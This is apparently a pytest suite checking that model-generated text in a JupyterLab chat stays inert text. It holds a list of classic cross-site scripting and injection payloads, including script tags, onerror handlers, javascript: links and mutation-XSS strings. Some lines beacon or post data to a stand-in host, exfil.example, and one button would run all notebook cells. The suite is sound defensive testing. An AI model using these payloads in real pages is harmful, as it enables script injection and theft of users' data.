"""Whatever a model says stays text, in JupyterLab and wherever it stands in a chat.

What is tried here is a part of what `python -m hostile` tries.
"""

from __future__ import annotations

import pytest
from hostile import corpus
from hostile.lab import CELL, COMMANDS, PLACES, Ear, LabJudge

from .conftest import OpenLab, OpenPage

OWN = corpus.load()

CLASSICS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://exfil.example/pixel.png?q=secret)",
    "![here](/api/kernels)",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>@import 'https://exfil.example/a.css'; * { display: none }</style>",
    "<form action=https://exfil.example><input name=q><button>Send</button></form>",
    "<svg><script>alert(1)</script></svg>",
    "<div id=main data-jp-theme-light=false onclick=alert(1)>text</div>",
    '<button data-commandlinker-command="notebook:run-all-cells">Show full answer</button>',
    "[ref]: javascript:alert(1)\n\n[click][ref] <https://exfil.example> ```js\nalert(1)\n```",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
]


@pytest.fixture
def judge(lab: OpenLab, open_page: OpenPage) -> LabJudge:
    """A chat in JupyterLab that is looked at."""
    page = open_page()
    ear = Ear(page)
    return LabJudge(lab(CELL, page=page), ear)


def test_hostile_texts_stay_text_wherever_they_stand(judge: LabJudge) -> None:
    # One that cannot be cut is among them.
    assert judge.ask(["<", *CLASSICS, *OWN.ours[::36]], PLACES, "once", 100).faults == []
    assert judge.ask([*OWN.ours, *OWN.some(300)], ["model text"], "once", 500).faults == []


def test_hostile_texts_stay_text_wherever_they_are_cut(judge: LabJudge) -> None:
    some = [*CLASSICS, *OWN.ours[::200]]
    verdict = judge.ask([text for text in some if len(text) < 200], PLACES, "everywhere", 50)
    assert verdict.tried > 3_000
    assert verdict.faults == []


def test_no_click_on_an_answer_runs_a_command(judge: LabJudge) -> None:
    assert len(COMMANDS) == 16
    assert judge.ask(COMMANDS, PLACES, "once").faults == []
    # Where a widget has such an attribute itself, one does.
    assert judge.sees_commands()


def test_the_judge_sees_what_is_drawn_beside_a_chat(judge: LabJudge) -> None:
    judge.notebook.chat.root.evaluate(
        """root => root.insertAdjacentHTML("beforeend",
            "<p class=far style='position: fixed; inset: 0 0 auto; height: 9em'>over all</p>")"""
    )
    assert any("is drawn at" in one for one in judge.ask(["x"], ["model text"], "once").faults)
    judge.notebook.chat.root.evaluate("root => root.querySelector('.far').remove()")
    assert judge.ask(["x"], ["model text"], "once").faults == []
